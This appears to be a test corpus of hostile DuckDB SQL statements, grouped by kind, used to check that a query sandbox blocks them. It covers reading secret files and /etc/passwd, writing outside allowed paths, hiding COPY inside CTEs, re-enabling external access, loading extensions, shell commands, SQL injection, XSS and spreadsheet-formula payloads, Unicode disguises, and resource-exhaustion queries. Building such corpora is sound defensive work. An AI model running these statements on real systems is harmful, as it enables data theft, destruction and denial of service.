-- Statements that try to read, write, reach, hang or break what they must not; one a line, under its kind.
-- In braces stand places that the test makes: files outside, a port that listens, control letters and long texts.
-- # file read
SELECT * FROM read_csv('{secret_csv}')
SELECT * FROM read_csv_auto('{secret_csv}')
SELECT * FROM sniff_csv('{secret_csv}')
SELECT * FROM read_text('{secret_txt}')
SELECT * FROM read_blob('{secret_txt}')
SELECT * FROM read_json('{secret_json}')
SELECT * FROM read_json_auto('{secret_json}')
SELECT * FROM read_json_objects('{secret_json}')
SELECT * FROM read_ndjson('{secret_json}')
SELECT * FROM read_ndjson_objects('{secret_json}')
SELECT * FROM read_ndjson_auto('{secret_json}')
SELECT * FROM read_json_objects_auto('{secret_json}')
SELECT * FROM read_parquet('{secret_parquet}')
SELECT * FROM parquet_scan('{secret_parquet}')
SELECT * FROM parquet_metadata('{secret_parquet}')
SELECT * FROM parquet_schema('{secret_parquet}')
SELECT * FROM parquet_file_metadata('{secret_parquet}')
SELECT * FROM parquet_kv_metadata('{secret_parquet}')
SELECT * FROM parquet_bloom_probe('{secret_parquet}', 'a', 1)
SELECT * FROM glob('{outside}/*')
SELECT * FROM glob('/etc/*')
SELECT * FROM read_text('/etc/passwd')
SELECT * FROM read_blob('/proc/self/environ')
SELECT * FROM read_text('/proc/self/maps')
SELECT * FROM read_blob('/dev/urandom')
SELECT * FROM read_text('/dev/stdin')
SELECT * FROM '{secret_csv}'
FROM '{secret_csv}'
SELECT * FROM "{secret_csv}"
FROM '{secret_parquet}'
FROM '{secret_json}'
SELECT * FROM '{outside}/*.csv'
SELECT * FROM '{outside}/**/*'
SELECT * FROM 'file://{secret_csv}'
SELECT * FROM read_csv('file:{secret_csv}')
SELECT * FROM read_csv('{outside}/../outside/secret.csv')
SELECT * FROM read_csv('/proc/self/root{secret_csv}')
SELECT * FROM read_csv(['{secret_csv}', '{secret_csv}'])
SELECT * FROM read_csv_auto(list_value('{secret_csv}'))
SELECT * FROM read_csv('{outside}' || '/secret.csv')
SELECT * FROM read_csv(concat('{outside}', '/secret.csv'))
SELECT * FROM read_csv(getvariable('path'))
SELECT * FROM read_csv(chr(47) || 'etc' || chr(47) || 'passwd')
SELECT * FROM read_text(from_hex('2f6574632f706173737764')::VARCHAR)
SELECT * FROM read_text(decode(from_base64('L2V0Yy9wYXNzd2Q=')))
WITH x AS (SELECT * FROM read_csv('{secret_csv}')) SELECT * FROM x
WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM x WHERE n < 3) SELECT * FROM x, read_text('{secret_txt}')
SELECT (SELECT content FROM read_text('{secret_txt}'))
SELECT * FROM devices WHERE name IN (SELECT content FROM read_text('{secret_txt}'))
SELECT * FROM devices, LATERAL (SELECT * FROM read_text('{secret_txt}'))
SELECT EXISTS (SELECT * FROM read_csv('{secret_csv}'))
EXPLAIN SELECT * FROM read_csv('{secret_csv}')
EXPLAIN ANALYZE SELECT * FROM read_csv('{secret_csv}')
DESCRIBE SELECT * FROM read_csv('{secret_csv}')
DESCRIBE '{secret_csv}'
SUMMARIZE '{secret_csv}'
SUMMARIZE FROM '{secret_csv}'
SHOW TABLES FROM '{secret_csv}'
SELECT * FROM query('SELECT * FROM read_csv(''{secret_csv}'')')
SELECT * FROM query_table('{secret_csv}')
SELECT * FROM query_table(['{secret_csv}'])
FROM query('FROM ''{secret_csv}''')
SELECT * FROM query('COPY devices TO ''{victim}''')
PIVOT '{secret_csv}' ON a
UNPIVOT '{secret_csv}' ON a
PIVOT (SELECT * FROM read_csv('{secret_csv}')) ON a USING count(*)
TABLE '{secret_csv}'
(FROM '{secret_csv}')
FROM '{secret_csv}' UNION ALL FROM '{secret_csv}'
SELECT * FROM '{secret_csv}' AS t(a)
SELECT COLUMNS(*) FROM '{secret_csv}'
INSERT INTO sources (source_id, title) SELECT 's', content FROM read_text('{secret_txt}')
UPDATE sources SET title = (SELECT content FROM read_text('{secret_txt}'))
DELETE FROM sources WHERE title IN (SELECT content FROM read_text('{secret_txt}'))
MERGE INTO sources USING (SELECT content FROM read_text('{secret_txt}')) AS s ON sources.title = s.content WHEN MATCHED THEN DELETE
INSERT INTO sources BY NAME (FROM '{secret_csv}')
INSERT INTO sources (source_id, title) VALUES ('s', (SELECT content FROM read_text('{secret_txt}'))) RETURNING title
COPY devices FROM '{secret_csv}'
COPY sources FROM '{secret_csv}' (FORMAT csv, HEADER)
COPY FROM DATABASE memory TO outside
IMPORT DATABASE '{outside}'
.read {secret_csv}
.open {victim}
\i {secret_csv}
CREATE TABLE stolen AS FROM '{secret_csv}'
CREATE VIEW stolen AS SELECT * FROM read_csv('{secret_csv}')
CREATE TEMP VIEW stolen AS FROM '{secret_csv}'
CREATE MACRO stolen() AS TABLE SELECT * FROM read_csv('{secret_csv}')
CREATE OR REPLACE MACRO stolen(p) AS TABLE FROM read_text(p)
PREPARE p AS SELECT * FROM read_csv('{secret_csv}')
EXECUTE p
CALL read_csv('{secret_csv}')
CALL sniff_csv('{secret_csv}')
SELECT * FROM read_csv('{secret_csv}', columns = {'a': 'VARCHAR'})
SELECT * FROM read_csv('{secret_csv}', delim = '', header = false)
SELECT * FROM read_csv('/dev/fd/0')
SELECT * FROM duckdb_temporary_files()
SELECT * FROM read_duckdb('{victim}')
SELECT * FROM read_xlsx('{outside}/secret.xlsx')
SELECT * FROM st_read('{secret_csv}')
SELECT * FROM sqlite_scan('{victim}', 'devices')
SELECT * FROM iceberg_scan('{outside}')
SELECT * FROM delta_scan('{outside}')
SELECT * FROM arrow_scan(1, 2, 3)
SELECT * FROM pandas_scan(0)
SELECT * FROM seq_scan('{victim}')
SELECT * FROM python_map_function(1, 2)
-- # file write
COPY devices TO '{outside}/written' (FORMAT csv)
COPY (SELECT 1) TO '{victim}' (FORMAT csv)
COPY devices TO '{outside}/written' (FORMAT parquet)
COPY (SELECT 1) TO '{victim}' (FORMAT parquet)
COPY devices TO '{outside}/written' (FORMAT json)
COPY (SELECT 1) TO '{victim}' (FORMAT json)
COPY devices TO '{outside}/written' (FORMAT csv, USE_TMP_FILE false)
COPY (SELECT 1) TO '{victim}' (FORMAT csv, USE_TMP_FILE false)
COPY devices TO '{outside}/written' (FORMAT csv, HEADER, FORCE_QUOTE *)
COPY (SELECT 1) TO '{victim}' (FORMAT csv, HEADER, FORCE_QUOTE *)
COPY devices TO '{outside}/written' (FORMAT parquet, PARTITION_BY (segment), OVERWRITE_OR_IGNORE)
COPY (SELECT 1) TO '{victim}' (FORMAT parquet, PARTITION_BY (segment), OVERWRITE_OR_IGNORE)
COPY devices TO '{outside}/written' (FORMAT csv, PER_THREAD_OUTPUT)
COPY (SELECT 1) TO '{victim}' (FORMAT csv, PER_THREAD_OUTPUT)
COPY devices TO '{outside}/written' (FORMAT csv, APPEND)
COPY (SELECT 1) TO '{victim}' (FORMAT csv, APPEND)
COPY devices TO '{outside}/written' (FORMAT blob)
COPY (SELECT 1) TO '{victim}' (FORMAT blob)
COPY devices TO '{outside}/written' (FORMAT csv, COMPRESSION gzip)
COPY (SELECT 1) TO '{victim}' (FORMAT csv, COMPRESSION gzip)
COPY devices TO '{database}' (FORMAT csv, USE_TMP_FILE false)
COPY (SELECT 'x') TO '{database}.wal'
COPY devices TO '/dev/stdout'
COPY devices TO '/dev/stderr' (FORMAT csv)
COPY devices TO '/proc/self/mem'
COPY devices TO '/proc/self/fd/1'
COPY (SELECT 1) TO 'relative.csv'
COPY (SELECT 1) TO '../relative.csv'
COPY (SELECT 1) TO '~/relative.csv'
EXPORT DATABASE '{outside}/export'
EXPORT DATABASE '{outside}/export' (FORMAT parquet)
CHECKPOINT
FORCE CHECKPOINT
VACUUM
VACUUM ANALYZE
SELECT * FROM write_log('{outside}')
SELECT write_csv('{outside}/x.csv')
CALL enable_logging(storage_path = '{outside}')
CALL enable_logging('QueryLog', storage = 'file', storage_config = {'path': '{outside}'})
CALL enable_profiling()
COPY DATABASE memory TO '{victim}'
CREATE TABLE t AS SELECT 1
CREATE TEMP TABLE t AS SELECT * FROM range(10)
CREATE SEQUENCE s
CREATE TYPE t AS ENUM ('a')
CREATE INDEX i ON devices (name)
CREATE SCHEMA s
DROP TABLE devices
DROP TABLE IF EXISTS devices CASCADE
ALTER TABLE devices ADD COLUMN evil VARCHAR
ALTER TABLE devices RENAME TO gone
TRUNCATE devices
DROP SCHEMA main CASCADE
COMMENT ON TABLE devices IS 'evil'
-- # hidden in WITH
WITH x AS (COPY devices TO '{victim}') SELECT 1
WITH x AS MATERIALIZED (COPY devices TO '{victim}') SELECT * FROM x
SELECT * FROM (COPY devices TO '{victim}')
WITH x AS (COPY devices TO '{victim}' (FORMAT csv, USE_TMP_FILE false)) SELECT 1
WITH x AS MATERIALIZED (COPY devices TO '{victim}' (FORMAT csv, USE_TMP_FILE false)) SELECT * FROM x
SELECT * FROM (COPY devices TO '{victim}' (FORMAT csv, USE_TMP_FILE false))
WITH x AS (COPY (SELECT 1) TO '{outside}/cte.csv') SELECT 1
WITH x AS MATERIALIZED (COPY (SELECT 1) TO '{outside}/cte.csv') SELECT * FROM x
SELECT * FROM (COPY (SELECT 1) TO '{outside}/cte.csv')
WITH x AS (COPY devices TO '{database}' (FORMAT csv, USE_TMP_FILE false)) SELECT 1
WITH x AS MATERIALIZED (COPY devices TO '{database}' (FORMAT csv, USE_TMP_FILE false)) SELECT * FROM x
SELECT * FROM (COPY devices TO '{database}' (FORMAT csv, USE_TMP_FILE false))
WITH x AS (COPY sources FROM '{secret_csv}') SELECT 1
WITH x AS MATERIALIZED (COPY sources FROM '{secret_csv}') SELECT * FROM x
SELECT * FROM (COPY sources FROM '{secret_csv}')
WITH x AS (EXPORT DATABASE '{outside}/export') SELECT 1
WITH x AS MATERIALIZED (EXPORT DATABASE '{outside}/export') SELECT * FROM x
SELECT * FROM (EXPORT DATABASE '{outside}/export')
WITH x AS (ATTACH '{victim}' AS a) SELECT 1
WITH x AS MATERIALIZED (ATTACH '{victim}' AS a) SELECT * FROM x
SELECT * FROM (ATTACH '{victim}' AS a)
WITH x AS (CREATE TABLE t AS SELECT 1) SELECT 1
WITH x AS MATERIALIZED (CREATE TABLE t AS SELECT 1) SELECT * FROM x
SELECT * FROM (CREATE TABLE t AS SELECT 1)
WITH x AS (DROP TABLE devices) SELECT 1
WITH x AS MATERIALIZED (DROP TABLE devices) SELECT * FROM x
SELECT * FROM (DROP TABLE devices)
WITH x AS (PRAGMA database_list) SELECT 1
WITH x AS MATERIALIZED (PRAGMA database_list) SELECT * FROM x
SELECT * FROM (PRAGMA database_list)
WITH x AS (SET memory_limit = '100GB') SELECT 1
WITH x AS MATERIALIZED (SET memory_limit = '100GB') SELECT * FROM x
SELECT * FROM (SET memory_limit = '100GB')
WITH x AS (LOAD httpfs) SELECT 1
WITH x AS MATERIALIZED (LOAD httpfs) SELECT * FROM x
SELECT * FROM (LOAD httpfs)
WITH x AS (INSTALL httpfs) SELECT 1
WITH x AS MATERIALIZED (INSTALL httpfs) SELECT * FROM x
SELECT * FROM (INSTALL httpfs)
WITH x AS (CALL pragma_version()) SELECT 1
WITH x AS MATERIALIZED (CALL pragma_version()) SELECT * FROM x
SELECT * FROM (CALL pragma_version())
WITH x AS (CHECKPOINT) SELECT 1
WITH x AS MATERIALIZED (CHECKPOINT) SELECT * FROM x
SELECT * FROM (CHECKPOINT)
WITH x AS (TRUNCATE devices) SELECT 1
WITH x AS MATERIALIZED (TRUNCATE devices) SELECT * FROM x
SELECT * FROM (TRUNCATE devices)
WITH a AS (SELECT 1), b AS (COPY devices TO '{victim}') SELECT * FROM a
WITH x AS (WITH y AS (COPY devices TO '{victim}') SELECT 1) SELECT * FROM x
EXPLAIN ANALYZE COPY devices TO '{victim}'
EXPLAIN ANALYZE WITH x AS (COPY devices TO '{victim}') SELECT 1
EXPLAIN ANALYZE ATTACH '{victim}'
WITH x AS (COPY (SELECT 1) TO '{victim}' RETURN_FILES) SELECT * FROM x
WITH x AS (COPY (SELECT 1) TO '{victim}' (RETURN_FILES)) SELECT * FROM x
INSERT INTO sources WITH x AS (COPY devices TO '{victim}') SELECT 's', 't', NULL, NULL, NULL
(COPY devices TO '{victim}')
WITH x AS (DELETE FROM devices RETURNING *) SELECT count(*) FROM x
WITH x AS (UPDATE devices SET name = 'evil' RETURNING *) SELECT count(*) FROM x
-- # attach
ATTACH '{victim}'
ATTACH '{victim}' AS v
ATTACH '{victim}' AS v (READ_ONLY)
ATTACH '{database}' AS v
ATTACH IF NOT EXISTS '{victim}'
ATTACH OR REPLACE '{victim}' AS memory
ATTACH DATABASE '{victim}'
ATTACH ':memory:' AS other
ATTACH '' AS other
ATTACH '{outside}/new.duckdb' AS n
ATTACH 'sqlite:{victim}'
ATTACH '{victim}' (TYPE sqlite)
ATTACH 'postgres:dbname=postgres' (TYPE postgres)
ATTACH 'ducklake:{outside}/lake' AS lake
ATTACH 'http://127.0.0.1:{port}/x.duckdb'
DETACH memory
DETACH temp
DETACH system
USE system
USE temp
USE memory.information_schema
SELECT * FROM duckdb_databases()
SHOW DATABASES
SELECT * FROM v.devices
SELECT * FROM '{victim}'.devices
SELECT * FROM "{victim}".main.devices
CREATE DATABASE evil
CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')
CREATE PERSISTENT SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')
DROP SECRET s
SELECT * FROM duckdb_secrets()
SELECT * FROM which_secret('s3://a', 's3')
-- # setting
SET enable_external_access = true
SET lock_configuration = false
SET memory_limit = '100GB'
SET max_memory = '100GB'
SET temp_directory = '{outside}'
SET threads = 1000
SET worker_threads = 1000
SET external_threads = 64
SET autoload_known_extensions = true
SET autoinstall_known_extensions = true
SET allow_unsigned_extensions = true
SET allow_community_extensions = true
SET extension_directory = '{outside}'
SET custom_extension_repository = 'http://127.0.0.1:{port}'
SET home_directory = '{outside}'
SET allowed_directories = ['/']
SET allowed_paths = ['{victim}']
SET enable_logging = true
SET log_query_path = '{outside}/log'
SET profiling_output = '{outside}/profile'
SET enable_profiling = 'json'
SET secret_directory = '{outside}'
SET access_mode = 'READ_WRITE'
SET python_enable_replacements = true
SET python_scan_all_frames = true
SET max_temp_directory_size = '100GB'
SET http_proxy = '127.0.0.1:{port}'
SET disabled_filesystems = ''
SET file_search_path = '{outside}'
SET schema = 'pg_catalog'
SET enable_object_cache = true
SET allow_persistent_secrets = true
SET search_path = 'system'
SET debug_force_external = true
SET GLOBAL enable_external_access = true
SET SESSION enable_external_access = true
SET LOCAL memory_limit = '1TB'
RESET lock_configuration
RESET GLOBAL memory_limit
RESET enable_external_access
PRAGMA enable_external_access = true
PRAGMA memory_limit = '100GB'
PRAGMA threads = 1000
PRAGMA temp_directory = '{outside}'
PRAGMA database_list
PRAGMA enable_profiling = 'json'
PRAGMA profiling_output = '{outside}/profile'
PRAGMA log_query_path = '{outside}/log'
PRAGMA force_checkpoint
PRAGMA enable_verification
PRAGMA import_database('{outside}')
PRAGMA storage_info('devices')
PRAGMA show_tables
PRAGMA version
PRAGMA platform
PRAGMA user_agent
PRAGMA metadata_info
PRAGMA debug_checkpoint_abort = 'before_truncate'
CALL pragma_database_size()
CALL checkpoint()
SET VARIABLE path = '{secret_csv}'
SELECT set_config('enable_external_access', 'true')
SELECT current_setting('enable_external_access')
SELECT * FROM duckdb_settings()
SELECT * FROM duckdb_extensions()
SELECT * FROM duckdb_logs()
SELECT * FROM pragma_user_agent()
SELECT getenv('EDGEWISE_CANARY')
SELECT current_setting('home_directory')
SELECT * FROM test_all_types()
SELECT * FROM duckdb_memory()
SELECT current_user, session_user, pg_postmaster_start_time()
BEGIN
BEGIN; DROP TABLE devices; COMMIT
COMMIT
ROLLBACK
ABORT
START TRANSACTION READ WRITE
SET ROLE admin
GRANT ALL ON devices TO public
CREATE USER evil
ANALYZE devices
-- # extension
INSTALL httpfs
LOAD httpfs
INSTALL sqlite
LOAD sqlite
INSTALL postgres
LOAD postgres
INSTALL spatial
LOAD spatial
INSTALL excel
LOAD excel
INSTALL inet
LOAD inet
INSTALL aws
LOAD aws
INSTALL iceberg
LOAD iceberg
INSTALL shellfs
LOAD shellfs
INSTALL fts
LOAD fts
FORCE INSTALL httpfs
INSTALL httpfs FROM community
INSTALL httpfs FROM 'http://127.0.0.1:{port}'
INSTALL '{outside}/evil.duckdb_extension'
LOAD '{outside}/evil.duckdb_extension'
LOAD '/tmp/evil.so'
UPDATE EXTENSIONS
UPDATE EXTENSIONS (httpfs)
SELECT * FROM read_csv('http://127.0.0.1:{port}/x.csv')
SELECT * FROM 'http://127.0.0.1:{port}/x.parquet'
SELECT * FROM read_text('http://127.0.0.1:{port}/x')
SELECT * FROM read_json('https://127.0.0.1:{port}/x.json')
SELECT * FROM read_parquet('s3://bucket/x.parquet')
SELECT * FROM read_parquet('gcs://bucket/x.parquet')
SELECT * FROM read_parquet('hf://datasets/x/y.parquet')
SELECT * FROM read_csv('az://container/x.csv')
COPY devices TO 'http://127.0.0.1:{port}/x.csv'
COPY devices TO 's3://bucket/x.parquet'
WITH x AS (COPY devices TO 'http://127.0.0.1:{port}/x.csv') SELECT 1
SELECT http_get('http://127.0.0.1:{port}/')
SELECT * FROM read_text('| cat /etc/passwd')
SELECT * FROM read_csv('cat /etc/passwd |')
SELECT shell('id')
SELECT system('id')
SELECT load_extension('{outside}/evil')
SELECT pg_read_file('/etc/passwd')
SELECT lo_import('/etc/passwd')
SELECT readfile('/etc/passwd')
SELECT writefile('{victim}', 'x')
SELECT xp_cmdshell('id')
COPY (SELECT 1) TO PROGRAM 'id'
-- # endless
SELECT count(*) FROM range(1000000000000)
SELECT sum(a.range * b.range) FROM range(10000000) a, range(10000000) b
SELECT count(*) FROM range(1000000) a, range(1000000) b, range(1000000) c
WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM x) SELECT count(*) FROM x
WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT n FROM x) SELECT * FROM x
WITH RECURSIVE x(n) AS (SELECT 0 UNION SELECT (n + 1) % 1000000000 FROM x) SELECT max(n) FROM x
SELECT count(*) FROM generate_series(1, 9000000000000000000)
SELECT md5(range::VARCHAR) FROM range(100000000000) ORDER BY 1 LIMIT 1
SELECT count(DISTINCT hash(range)) FROM range(100000000000)
SELECT * FROM range(100000000000) WHERE hash(range) = 1
SELECT sum(sin(a.range) * cos(b.range)) FROM range(1000000) a CROSS JOIN range(1000000) b
SELECT max(sha256(range::VARCHAR)) FROM range(100000000000)
SELECT count(*) FROM devices a, devices b, devices c, devices d, devices e, devices f, devices g
SELECT count(*) FROM measurements a, measurements b, measurements c
SELECT count(*) FROM measurements a JOIN measurements b ON a.value < b.value JOIN measurements c ON b.value < c.value
SELECT sum(list_sum(list_transform(range(1000), lambda x: x * a.range))) FROM range(10000000) a
SELECT levenshtein(repeat('ab', 100000), repeat('ba', 100000))
SELECT damerau_levenshtein(repeat('ab', 10000), repeat('ba', 10000))
SELECT jaro_winkler_similarity(repeat('ab', 300000), repeat('ba', 300000))
SELECT editdist3(repeat('ab', 100000), repeat('ba', 100000))
SELECT regexp_matches(repeat('a', 10000000), '^(a+)+$')
SELECT regexp_replace(repeat('a', 20000000), '(a*)*b', 'x', 'g')
SELECT list_sort(range(20000000))[1]
SELECT list_distinct(range(10000000))[1]
SELECT factorial(10000000)
SELECT list_aggregate(range(100000000), 'string_agg')
SELECT len(list_transform(range(3000000), lambda x: md5(repeat(x::VARCHAR, 100))))
SELECT array_to_string(range(30000000), ',')
WITH RECURSIVE x AS (SELECT [1] AS l UNION ALL SELECT list_concat(l, l) FROM x) SELECT count(*) FROM x
WITH RECURSIVE x AS (SELECT 'a' AS s UNION ALL SELECT s || s FROM x) SELECT max(length(s)) FROM x
EXPLAIN ANALYZE SELECT count(*) FROM range(1000000000000)
SELECT sleep_ms(100000)
SELECT pg_sleep(1000)
UPDATE sources SET title = (SELECT count(*)::VARCHAR FROM range(1000000000000))
DELETE FROM sources WHERE (SELECT count(*) FROM range(1000000000000)) > 0
INSERT INTO sources (source_id, title) SELECT range::VARCHAR, 't' FROM range(100000000)
SELECT approx_quantile(range, 0.5) FROM range(1000000000000)
SELECT histogram(range) FROM range(100000000000)
SELECT * FROM (SELECT row_number() OVER (ORDER BY random()) FROM range(1000000000)) LIMIT 1
SELECT count(*) FROM (SELECT DISTINCT a.range, b.range FROM range(100000) a, range(100000) b)
PIVOT (SELECT range AS a FROM range(100000)) ON a USING count(*)
SELECT count(*) FROM range(100000000000) USING SAMPLE 50 PERCENT
-- # memory
SELECT * FROM range(500000000) ORDER BY hash(range)
SELECT list(range) FROM range(1000000000)
SELECT string_agg(range::VARCHAR, ',') FROM range(1000000000)
SELECT array_agg(repeat('x', 1000)) FROM range(100000000)
SELECT count(*) FROM (SELECT DISTINCT md5(range::VARCHAR) FROM range(1000000000))
SELECT a.range, count(*) FROM range(1000000000) a GROUP BY 1 ORDER BY 2 LIMIT 1
SELECT * FROM range(100000000) a JOIN (SELECT range * 2 AS r FROM range(100000000)) b ON a.range = b.r ORDER BY 1 DESC LIMIT 1
SELECT range(3000000000)
SELECT generate_series(1, 2000000000)
SELECT list_resize([1], 2000000000)
SELECT flatten(list_transform(range(100000), lambda x: range(10000)))
SELECT map_from_entries(list_transform(range(10000000), lambda x: (x, x)))
SELECT median(range) FROM range(1000000000)
SELECT quantile_cont(range, [0.1, 0.5]) FROM range(1000000000)
SELECT mode(range) FROM range(1000000000)
SELECT repeat('x', 1000000) FROM range(5000)
SELECT repeat('x', 10000000) FROM range(100000)
SELECT bitstring('1', 2000000000)
SELECT make_timestamp(range), range(100000) FROM range(100000)
SELECT lag(repeat('x', 100000)) OVER (ORDER BY range) FROM range(1000000)
SELECT json_group_array(range) FROM range(1000000000)
SELECT [range(10000) FOR x IN range(100000)]
SELECT * FROM (SELECT unnest(range(1000000)) FROM range(1000000)) ORDER BY random()
SELECT histogram(md5(range::VARCHAR)) FROM range(1000000000)
-- # huge text
SELECT length(repeat('x', 3000000000))
SELECT repeat('x', 4000000000)
SELECT repeat(repeat('x', 100000), 100000)
SELECT lpad('x', 2000000000, 'y')
SELECT rpad('x', 2000000000, 'y')
SELECT repeat('x', 2000000000) || repeat('y', 2000000000)
SELECT replace(repeat('x', 100000000), 'x', repeat('y', 1000))
SELECT format('{:1000000000d}', 1)
SELECT printf('%1000000000d', 1)
SELECT regexp_replace(repeat('x', 10000000), 'x', repeat('y', 1000), 'g')
SELECT hex(repeat('x', 1000000000))
SELECT to_base64(repeat('x', 1000000000)::BLOB)
SELECT string_split(repeat('x,', 100000000), ',')
SELECT reverse(repeat('é', 1000000000))
SELECT upper(repeat('ß', 1000000000))
SELECT translate(repeat('x', 1000000000), 'x', 'y')
SELECT bar(1, 0, 1, 1000000000)
SELECT url_encode(repeat('é', 500000000))
SELECT '{long_text}'
SELECT {long_sum}
SELECT {deep_parentheses}
SELECT {deep_case}
SELECT * FROM devices WHERE device_id IN ({long_list})
SELECT {deep_lists}
{deep_subqueries}
{long_union}
SELECT 1 AS {long_name}
{long_comment}SELECT 1
{many_statements}
WITH {many_ctes} SELECT 1
SELECT {deep_not} true
SELECT strftime(DATE '2020-01-01', repeat('%Y', 10000000))
SELECT json('{deep_json}')
SELECT CAST(repeat('[', 100000) AS INTEGER[])
-- # functions of the core
SELECT roofline('h100_sxm', 'chat_small')
SELECT roofline(NULL, NULL)
SELECT roofline(repeat('x', 100000000), 'chat_small')
SELECT roofline('../../etc/passwd', '{secret_csv}')
SELECT roofline('h100_sxm', 'chat_small', 'int4', 99999999999)
SELECT roofline(device_id, workload_id) FROM devices, workloads
SELECT count(roofline(device_id, workload_id)) FROM devices, workloads, range(1000000)
SELECT roofline(device_id, 'chat_small') FROM devices, range(10000000)
SELECT * FROM budgets b1, budgets b2, budgets b3
SELECT count(*) FROM budgets, range(100000000)
SELECT roofline('h100_sxm'' OR 1=1 --', 'chat_small')
SELECT roofline('h100_sxm', 'chat_small; DROP TABLE devices')
SELECT roofline(1, 2)
SELECT roofline()
SELECT roofline('h100_sxm', 'chat_small', x := 1)
SELECT roofline('{{7*7}}', '${7*7}')
SELECT roofline('__import__(''os'').system(''id'')', 'chat_small')
SELECT roofline(chr(0), chr(0))
SELECT roofline('é́', '🤖')
INSERT INTO devices (device_id, name, segment, memory_gb, memory_bandwidth_gb_per_s) VALUES ('evil', 'Evil', 'phone', 1e308, 1e308); SELECT * FROM budgets WHERE device_id = 'evil'
INSERT INTO devices (device_id, name, segment, memory_gb, memory_bandwidth_gb_per_s) VALUES ('evil', 'Evil', 'phone', 5e-324, 5e-324); SELECT * FROM budgets WHERE device_id = 'evil'
INSERT INTO devices (device_id, name, segment, tdp_w) VALUES ('evil', 'Evil', 'phone', 'NaN'); SELECT * FROM budgets
DROP FUNCTION roofline
CREATE MACRO roofline(a, b) AS 1
CREATE FUNCTION evil() RETURNS INT LANGUAGE python AS 'import os'
DROP VIEW budgets
CREATE OR REPLACE TEMP VIEW budgets AS SELECT 1
DELETE FROM budgets
INSERT INTO budgets SELECT * FROM budgets
UPDATE budgets SET fits = true
-- # disguise
C{zero_width_space}OPY devices TO '{victim}'
COPY{no_break_space}devices{no_break_space}TO{no_break_space}'{victim}'
{byte_order_mark}COPY devices TO '{victim}'
{right_to_left}COPY devices TO '{victim}'
ＣＯＰＹ devices TO '{victim}'
COPY{em_space}devices TO '{victim}'
CоPY devices TO '{victim}'
/**/COPY/**/devices/**/TO/**/'{victim}'
/* SELECT */ COPY devices TO '{victim}'
/*/**/*/ COPY devices TO '{victim}'
-- SELECT 1{nl}COPY devices TO '{victim}'
SELECT 1 --{nl}; COPY devices TO '{victim}'
SELECT 1 /* ; */ ; COPY devices TO '{victim}' /* */
cOpY dEvIcEs To '{victim}'
COPY{tab}devices{tab}TO{tab}'{victim}'
COPY{cr}devices TO '{victim}'
COPY devices TO E'{victim}'
COPY devices TO $${victim}$$
COPY devices TO $x${victim}$x$
COPY devices TO U&'{victim}'
COPY "devices" TO '{victim}'
COPY main.devices TO '{victim}'
COPY memory.main.devices TO '{victim}'
FROM read_csv($${secret_csv}$$)
FROM "read_csv"('{secret_csv}')
FROM main.read_csv('{secret_csv}')
FROM system.main.read_csv('{secret_csv}')
FROM pg_catalog.read_text('{secret_txt}')
SELECT read_text.* FROM read_text('{secret_txt}')
FROM READ_TEXT('{secret_txt}')
FROM rEaD_cSv('{secret_csv}')
SELECT * FROM read_csv(E'\x2fetc\x2fpasswd')
SELECT * FROM read_csv(U&'\002fetc\002fpasswd')
FROM read_text('{secret_txt}{nul}')
SELECT 1{nul}; COPY devices TO '{victim}'
{nul}
{surrogate}
SELECT '{nul}'
SELECT '{replacement}{noncharacter}'
SELECT 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙'
SELECT * FROM {right_to_left}devices{pop_direction}
SELECT ‘x’
SELECT “x”
SELECT * FROM devices WHERE name = 'x' OR 1=1 --
'; COPY devices TO '{victim}'; --
SELECT 1 UNION SELECT content FROM read_text('{secret_txt}')
SELECT $1
SELECT ?
SELECT :name
EXECUTE IMMEDIATE 'COPY devices TO ''{victim}'''
DO $$ BEGIN COPY devices TO '{victim}'; END $$
SELECT 'x'::"{victim}"
DECLARE c CURSOR FOR SELECT 1
LISTEN evil
{empty}
{blank}
;
;;;;
--
/*
'
"
$$
(
SELECT
SELECT 1 SELECT 2
DROP
\
\x
#!/bin/sh
<script>alert(1)</script>
=cmd|' /C calc'!A0
SELECT '=cmd|'' /C calc''!A0' AS "=1+1"
SELECT '<img src=x onerror=alert(1)>' AS "<b>x</b>"
-- # several statements
SELECT 1; COPY devices TO '{victim}'
SELECT 1; ATTACH '{victim}'; SELECT 2
SELECT 1;; COPY (SELECT 1) TO '{outside}/multi.csv';
INSERT INTO sources (source_id, title) VALUES ('s', 't'); COPY sources TO '{victim}'
SET VARIABLE p = '{secret_csv}'; FROM read_csv(getvariable('p'))
PREPARE p AS COPY devices TO '{victim}'; EXECUTE p
PREPARE p AS SELECT * FROM read_csv($1); EXECUTE p('{secret_csv}')
CREATE MACRO m() AS TABLE FROM read_text('{secret_txt}'); FROM m()
CREATE TEMP TABLE t AS SELECT 1; COPY t TO '{victim}'
SET enable_external_access = true; COPY devices TO '{victim}'
RESET lock_configuration; SET enable_external_access = true
SELECT 1; SELECT count(*) FROM range(1000000000000)
SELECT count(*) FROM range(1000000000000); SELECT 1
BEGIN; DELETE FROM devices; ROLLBACK
DELETE FROM devices; SELECT 1
DELETE FROM devices; INSERT INTO devices SELECT * FROM devices
UPDATE devices SET origin = 'user'; DELETE FROM devices WHERE origin = 'user'
DELETE FROM sources; SELECT * FROM sources
UPDATE meta SET value = 99
DELETE FROM meta
INSERT INTO meta VALUES ('schema_version', '99')
LOAD httpfs; SELECT * FROM 'http://127.0.0.1:{port}/x.csv'
EXPLAIN SELECT 1; COPY devices TO '{victim}'
SELECT 1; DROP TABLE devices; SELECT 2
CALL pragma_version(); COPY devices TO '{victim}'
SHOW TABLES; EXPORT DATABASE '{outside}/export'
USE temp; CREATE TABLE t AS FROM '{secret_csv}'
CREATE TRIGGER t AFTER INSERT ON devices FOR EACH ROW DELETE FROM devices
